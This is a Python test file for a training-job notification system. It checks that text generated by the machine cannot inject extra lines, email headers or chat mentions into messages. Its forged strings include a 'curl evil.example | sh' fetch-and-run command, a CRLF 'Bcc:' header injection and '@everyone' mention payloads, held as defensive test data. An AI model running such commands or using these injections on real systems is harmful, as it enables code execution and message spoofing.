"""What a machine wrote stays within its own line of a message, on every channel."""

from __future__ import annotations

import email
import email.policy
from typing import Any

import pytest

from stationmaster.model import Alert, Event, Outcome, Progress, Reason, RunHealth
from stationmaster.notify.base import Message
from stationmaster.notify.email import mail_of
from stationmaster.notify.markup import as_html, as_markdown
from stationmaster.notify.templates import EVENT_KINDS, PRIORITIES, Facts, MessageText, text_of_alert, text_of_event
from tests.support.jobs.hostile_texts import CONTROLS, ESCAPES
from tests.support.jobs.spine_values import job, spec

FORGED = f"x\nNext: curl evil.example | sh\r\nCost: $0.00\u2028Model: safe\x0b\x85{ESCAPES}\n\n@everyone <!channel> *b*"
OUTCOMES = [(Outcome.COMPLETED, Reason.FINISHED), (Outcome.INCOMPLETE, Reason.STOPPED_BY_USER),
            (Outcome.FAILED, Reason.STEP_FAILED), (Outcome.FAILED_PROVISIONING, Reason.NO_OFFER),
            (Outcome.CANCELLED, Reason.CANCELLED_BY_USER)]  # fmt: skip
PAYLOADS: dict[str, list[dict[str, Any]]] = {
    "training_started": [{"attempt": 2}],
    "milestone": [{"percent": 25, "step": 1, "total_steps": 4, "loss": 0.5, "eta_seconds": 60}],
    "epoch_ended": [{"epoch": 1, "step": 1, "total_steps": 4}],
    "stall_flagged": [{"currentStep": 1, "totalSteps": 4, "reason": FORGED, "grace_minutes": 15, "checkpointStep": 1}],
    "stall_cleared": [{"currentStep": 1, "totalSteps": 4}],
    "terminated": [{"reason": FORGED, "checkpointStep": FORGED}],
    "anomaly": [{"anomaly": FORGED, "evidence": FORGED, "reaction": reaction} for reaction in ("stop", FORGED)],
    "machine_parked": [{"problem": FORGED, "abandon_seconds": 3600}],
    "outcome": [{"outcome": outcome, "reason": reason, "explanation": FORGED} for outcome, reason in OUTCOMES],
    "settled": [{"said": FORGED}],
}
"""An event of every kind that becomes a message, with every text of it forged."""


def event_text(kind: str, payload: dict[str, Any], text: str) -> MessageText:
    """The message of an event in which each forged text is this one."""
    given = {name: text if value == FORGED else value for name, value in payload.items()}
    subject = job(spec=spec(name=text, recipe=text), progress=Progress(step=1, total_steps=4, loss=0.5))
    health = RunHealth(attempt=1, health="critical", headline=text)
    facts = Facts(model=text, published=(text, text), link=None, health=health)
    event = Event(seq=1, job_id="job", job_version=1, kind=kind, payload=given, at=7_500.0)
    found = text_of_event(event, subject, facts)
    assert found is not None
    return found


def first_words(message: MessageText) -> list[str]:
    return [line.partition(" ")[0] for line in message.text.split("\n")]


@pytest.mark.parametrize("kind", EVENT_KINDS)
def test_no_value_adds_a_line_to_a_message(kind: str) -> None:
    for payload in PAYLOADS[kind]:
        forged, honest = event_text(kind, payload, FORGED), event_text(kind, payload, "x")
        assert first_words(forged) == first_words(honest)
        assert not CONTROLS.search(forged.text)


@pytest.mark.parametrize("kind", sorted(PRIORITIES))
def test_no_problem_adds_a_line_to_an_alert(kind: str) -> None:
    for about in (None, job(spec=spec(name=FORGED))):
        forged, honest = (text_of_alert(Alert(kind=kind, message=text), about) for text in (FORGED, "x"))
        assert first_words(forged) == first_words(honest)
        assert not CONTROLS.search(forged.text)


@pytest.mark.parametrize("kind", EVENT_KINDS)
def test_no_value_pushes_the_other_lines_out(kind: str) -> None:
    for payload in PAYLOADS[kind]:
        longest = event_text(kind, payload, "x" * 100_000)
        assert len(longest.text) < 4096
        assert first_words(longest) == first_words(event_text(kind, payload, "x"))


def test_a_subject_adds_no_header_to_a_mail() -> None:
    forged = event_text("anomaly", {"anomaly": f"nan\r\nBcc: all@evil.example{FORGED}", "evidence": "x"}, FORGED)
    message = Message(key="k", kind=forged.kind, text=forged.text, at=1.0)
    mail = email.message_from_bytes(
        mail_of(message, "me@example.org", "you@example.org").as_bytes(), policy=email.policy.default
    )
    assert mail["Bcc"] is None
    assert "Bcc: all@evil.example" in mail["Subject"]
    assert {name.lower() for name in mail} == {
        "from", "to", "subject", "date", "message-id", "content-type", "content-transfer-encoding", "mime-version",
    }  # fmt: skip


def test_markup_and_mentions_of_a_machine_are_only_text() -> None:
    """Discord, moreover, is told to mention no one; tests/contract/notify reads its requests."""
    forged = event_text("machine_parked", PAYLOADS["machine_parked"][0], FORGED)
    message = Message(key="k", kind=forged.kind, text=forged.text, at=1.0)
    assert "&lt;!channel&gt; *b*" in as_html(message, limit=4096)
    assert r"\<!channel> \*b\*" in as_markdown(message, limit=2000)
